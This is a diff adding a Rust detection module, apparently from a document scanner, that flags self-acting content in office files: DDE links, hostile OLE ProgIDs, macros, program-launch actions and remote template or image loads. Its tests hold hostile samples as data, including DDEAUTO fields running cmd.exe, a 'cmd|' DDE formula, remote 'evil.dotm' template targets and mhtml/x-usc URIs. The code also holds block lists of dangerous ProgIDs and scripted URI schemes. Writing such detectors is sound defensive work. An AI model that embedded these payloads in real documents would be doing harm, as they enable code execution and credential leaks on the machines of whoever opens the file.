@@ -1,0 +1,264 @@
+//! What a part of an office document does by itself when the document is opened.
+
+use super::Attribute;
+use crate::attachment::Active;
+
+/// What an element does by itself when its document is opened.
+pub(super) fn active(element: &str, attributes: &[Attribute]) -> Option<Active> {
+    let get = |wanted: &str| {
+        let found = attributes.iter().find(|(name, _)| name == wanted);
+        found.map_or("", |(_, value)| value.as_str())
+    };
+    if matches!(
+        element,
+        "ddeLink" | "dde-connection-decl" | "dde-source" | "dde-link" | "dde-connection"
+    ) {
+        return Some(Active::Dde);
+    }
+    if element == "fldSimple" {
+        return active_field(get("instr"));
+    }
+    let object = get("ProgID").to_lowercase();
+    let hostile = [
+        "shell.explorer",
+        "htmlfile",
+        "forms.html",
+        "scriptletfile",
+        "shockwaveflash",
+        "otkloadr",
+    ];
+    if hostile.iter().any(|id| object.starts_with(id)) {
+        return Some(Active::Object);
+    }
+    if get("action").starts_with("ppaction://program") || get("action") == "execute" {
+        return Some(Active::Launch);
+    }
+    if get("action").starts_with("ppaction://macro")
+        || attributes
+            .iter()
+            .any(|(_, v)| v.starts_with("vnd.sun.star.script:") || v.starts_with("macro:"))
+    {
+        return Some(Active::Script);
+    }
+    let target = get("Target");
+    if element == "Relationship" {
+        let external = get("TargetMode").eq_ignore_ascii_case("external");
+        let kind = get("Type").rsplit('/').next().unwrap_or("").to_lowercase();
+        // What is followed only by a click, and workbooks that are asked for their values.
+        let asked = kind == "hyperlink"
+            || kind.starts_with("externallink")
+            || kind.starts_with("xlexternallink");
+        let scripted = is_scripted(target);
+        return match (external, asked) {
+            (true, false) if scripted || is_remote(target) => Some(Active::Remote),
+            _ => None,
+        };
+    }
+    let loads = matches!(
+        element,
+        "image"
+            | "object"
+            | "object-ole"
+            | "floating-frame"
+            | "plugin"
+            | "applet"
+            | "section-source"
+            | "fill-image"
+            | "background-image"
+    );
+    (loads && is_remote(get("href"))).then_some(Active::Remote)
+}
+
+/// Whether an address lies on another machine. A file on a drive of the writer's does not:
+/// most templates of offices are named so.
+fn is_remote(address: &str) -> bool {
+    let address = address.trim().to_lowercase().replace('\\', "/");
+    let address = address.as_str();
+    if let Some(file) = address.strip_prefix("file:") {
+        let path = file.trim_start_matches('/');
+        let slashes = file.len() - path.len();
+        let drive = path
+            .as_bytes()
+            .get(1)
+            .is_some_and(|c| matches!(c, b':' | b'|'))
+            || path.starts_with("localhost/");
+        return !drive && matches!(slashes, 2 | 4..) && !path.is_empty();
+    }
+    let scheme = address.split_once(':').map(|(scheme, _)| scheme);
+    // A letter is a drive.
+    let elsewhere = scheme.is_some_and(|s| {
+        s.len() > 1
+            && s.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
+    });
+    elsewhere || address.starts_with("//")
+}
+
+fn is_scripted(address: &str) -> bool {
+    let address = address.trim().to_lowercase();
+    [
+        "mhtml:",
+        "script:",
+        "javascript:",
+        "vbscript:",
+        "ms-",
+        "search-ms:",
+        "x-usc:",
+    ]
+    .iter()
+    .any(|s| address.starts_with(s))
+        || address.contains("!x-usc:")
+}
+
+/// What the code of a field of Word does when it is updated.
+pub fn active_field(code: &str) -> Option<Active> {
+    let code = code.trim_start();
+    let mut words = code.split_whitespace();
+    let name = words.next()?.to_uppercase();
+    match name.as_str() {
+        "DDE" | "DDEAUTO" => Some(Active::Dde),
+        "INCLUDETEXT" | "INCLUDEPICTURE" | "IMPORT" | "LINK" | "RD" | "DATABASE" => {
+            let mut addresses =
+                words.map(|w| w.trim_matches(['"', '“', '”']).replace("\\\\", "\\"));
+            // Two backslashes in a code are one.
+            let remote =
+                code.contains("\\\\\\\\") || addresses.any(|a| a.contains(':') && is_remote(&a));
+            remote.then_some(Active::Remote)
+        }
+        _ => None,
+    }
+}
+
+/// Whether a formula starts a program or loads from elsewhere.
+pub(super) fn is_active_formula(formula: &str) -> bool {
+    let upper = formula.to_uppercase();
+    let calls = |function: &&str| {
+        upper
+            .match_indices(*function)
+            .any(|(at, _)| !upper[..at].ends_with(char::is_alphanumeric))
+    };
+    super::super::text::is_dde_link(formula)
+        || ["WEBSERVICE(", "CALL(", "REGISTER(", "REGISTER.ID(", "EXEC("]
+            .iter()
+            .any(calls)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        super::{Styles, read},
+        *,
+    };
+
+    fn does(xml: &str) -> Option<Active> {
+        read(xml, &mut Styles::default()).unwrap().active
+    }
+
+    #[test]
+    fn what_acts_by_itself_is_told() {
+        let relation = |kind: &str, target: &str| {
+            format!(
+                "<Relationships><Relationship Type='http://s/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
+            )
+        };
+        for (kind, target, found) in [
+            (
+                "attachedTemplate",
+                "http://10.0.0.1/evil.dotm",
+                Some(Active::Remote),
+            ),
+            (
+                "attachedTemplate",
+                r"\\10.0.0.1\share\evil.dotm",
+                Some(Active::Remote),
+            ),
+            (
+                "attachedTemplate",
+                "file://10.0.0.1/share/evil.dotm",
+                Some(Active::Remote),
+            ),
+            (
+                "attachedTemplate",
+                r"file:///\\10.0.0.1\share\evil.dotm",
+                Some(Active::Remote),
+            ),
+            (
+                "attachedTemplate",
+                r"file:///C:\Users\a\AppData\Roaming\Microsoft\Templates\ND30.dotx",
+                None,
+            ),
+            ("attachedTemplate", "ND30.dotx", None),
+            (
+                "oleObject",
+                "mhtml:http://x/a!x-usc:http://x/a",
+                Some(Active::Remote),
+            ),
+            ("frame", "http://x/", Some(Active::Remote)),
+            ("image", "https://x/a.png", Some(Active::Remote)),
+            ("image", "file:///D:/anh.png", None),
+            ("hyperlink", "https://vinhlong.gov.vn/", None),
+            ("hyperlink", "mailto:a@b.vn", None),
+            ("externalLinkPath", "https://sp/so-lieu.xlsx", None),
+        ] {
+            assert_eq!(does(&relation(kind, target)), found, "{kind} {target}");
+        }
+        for (xml, found) in [
+            (
+                "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:p>",
+                Some(Active::Dde),
+            ),
+            (
+                "<w:fldSimple w:instr=' DDEAUTO cmd \"/k\" '/>",
+                Some(Active::Dde),
+            ),
+            (
+                "<w:p><w:r><w:instrText>INCLUDETEXT \"http://x/a\"</w:instrText></w:r></w:p>",
+                Some(Active::Remote),
+            ),
+            (
+                "<w:p><w:r><w:instrText>INCLUDEPICTURE \"D:\\\\anh.png\" \\d</w:instrText></w:r></w:p>",
+                None,
+            ),
+            (
+                "<w:p><w:r><w:instrText>HYPERLINK \"http://x/a\"</w:instrText></w:r></w:p>",
+                None,
+            ),
+            (
+                "<w:p><w:r><w:t>DDEAUTO là trường tự chạy</w:t></w:r></w:p>",
+                None,
+            ),
+            ("<c><f>cmd|'/c calc'!A0</f></c>", Some(Active::Dde)),
+            (
+                "<c><f>_xlfn.WEBSERVICE(\"http://x\")</f></c>",
+                Some(Active::Dde),
+            ),
+            ("<c><f>SUM(A1:B2)</f></c>", None),
+            ("<c><f>IF(A1=\"a|b\",\"c!\",1)</f></c>", None),
+            (
+                "<externalLink><ddeLink ddeService='cmd'/></externalLink>",
+                Some(Active::Dde),
+            ),
+            (
+                "<o:OLEObject ProgID='Shell.Explorer.1'/>",
+                Some(Active::Object),
+            ),
+            ("<o:OLEObject ProgID='Equation.DSMT4'/>", None),
+            (
+                "<draw:image xlink:href='http://x/a.png'/>",
+                Some(Active::Remote),
+            ),
+            ("<draw:image xlink:href='Pictures/a.png'/>", None),
+            ("<text:a xlink:href='http://x/'>x</text:a>", None),
+            (
+                "<script:event-listener xlink:href='vnd.sun.star.script:x?language=Python'/>",
+                Some(Active::Script),
+            ),
+            (
+                "<a:hlinkClick action='ppaction://program'/>",
+                Some(Active::Launch),
+            ),
+        ] {
+            assert_eq!(does(xml), found, "{xml}");
+        }
+    }
+}
